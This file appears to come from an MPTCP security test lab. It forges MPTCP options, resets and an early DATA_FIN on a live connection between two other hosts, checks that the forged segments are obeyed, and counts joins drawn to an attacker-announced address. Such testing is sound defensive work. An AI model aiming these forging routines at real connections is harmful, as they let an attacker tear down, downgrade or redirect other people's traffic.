"""Forge MPTCP options and resets on a live connection of two other hosts."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from ipaddress import IPv4Address
from secrets import randbits, token_bytes

from mptcp_lab.probe import eventually
from mptcp_lab.suite.packets import joins
from mptcp_lab.suite.security.forging import Forger, next_segment
from mptcp_lab.suite.security.harm import Undisturbed
from mptcp_lab.suite.security.overhearing import last_mapping, last_segments
from mptcp_lab.wire import (
    AddAddr,
    Dss,
    MpFail,
    MpFastclose,
    MpPrio,
    MptcpOption,
    RemoveAddr,
    Segment,
)
from mptcp_lab.wire.packet import ACK, RST

#: Sequence numbers this far ahead are outside any window: an attacker off the path cannot see the right ones.
FAR_AHEAD = 1 << 30
#: Sequence numbers this far ahead are inside the window of a running stream, but not the next ones.
A_LITTLE_AHEAD = 20_000
#: All ids that endpoints of the lab have on one connection; a kernel takes at most 8 in one option.
ALL_IDS = tuple(range(8))
STRANGE_ID = 77
#: How far beyond the overheard data the forged end of a stream is.
END_AFTER_CHUNKS = 60


@dataclass(frozen=True)
class Forged:
    """A forged segment: its flags and its option, sent from the attacker's own address."""

    flags: int = ACK
    option: Callable[[IPv4Address], MptcpOption] | None = None

    def options(self, attacker: IPv4Address) -> tuple[MptcpOption, ...]:
        """Return the forged options."""
        return (self.option(attacker),) if self.option else ()


FORGED: dict[str, Forged] = {
    "ADD_ADDR": Forged(option=lambda mine: AddAddr(STRANGE_ID, mine, hmac=token_bytes(8))),
    "REMOVE_ADDR": Forged(option=lambda _: RemoveAddr(ALL_IDS)),
    "MP_PRIO": Forged(option=lambda _: MpPrio(backup=True)),
    "MP_FASTCLOSE": Forged(option=lambda _: MpFastclose(randbits(64))),
    "MP_FAIL": Forged(option=lambda _: MpFail(randbits(64))),
    "RST": Forged(RST | ACK),
}


def forge(forger: Forger, name: str, overheard: list[Segment], port: int, ahead: int = 0) -> None:
    """Forge a segment of `FORGED` on every subflow of a capture, to both of its ends.

    `ahead` moves all sequence numbers. Without it those to the server, which the client's data moves on, are
    a little ahead and inside the window.
    """
    forged = FORGED[name]
    options = forged.options(forger.wire.address)
    to_server, to_client = last_segments(overheard, port)
    forger.sends(*(next_segment(each, forged.flags, *options, ahead=ahead) for each in to_client))
    forger.sends(
        *(next_segment(each, forged.flags, *options, ahead=ahead or A_LITTLE_AHEAD) for each in to_server)
    )


def forge_end_of_stream(forger: Forger, overheard: list[Segment], port: int, chunk: int) -> None:
    """Forge a DATA_FIN at a point that the client's data, in segments of `chunk` octets, will soon reach.

    It is sent with several sequence numbers, of which some are inside the window whatever data has followed.
    """
    (towards, *_), _ = last_segments(overheard, port)
    last = last_mapping(overheard, port)
    assert last.dsn is not None, f"the client's last mapping has no DSN: {last}"
    end = (last.dsn + END_AFTER_CHUNKS * chunk) % (1 << 8 * last.dsn_octets)
    fin = Dss(None, end, 0, 1, data_fin=True, dsn_octets=last.dsn_octets)
    forger.sends(*(next_segment(towards, ACK, fin, ahead=ahead) for ahead in range(5_000, 50_000, 5_000)))


def check_obeyed(forger: Forger, stream: Undisturbed, overheard: list[Segment], port: int) -> None:
    """Check that forged segments reach the client: an MP_PRIO with right sequence numbers is obeyed.

    An MP_PRIO carries no proof of its sender, so only its sequence numbers decide.
    """
    forge(forger, "MP_PRIO", overheard, port)
    eventually(stream.reactions, until=bool, within=5.0, what="MPPrioRx, of a right MP_PRIO as a control")


def joins_received(forger: Forger) -> int:
    """Return how many joins came to the attacker's own address, which it has announced."""
    return len(joins(forger.received_segments()))
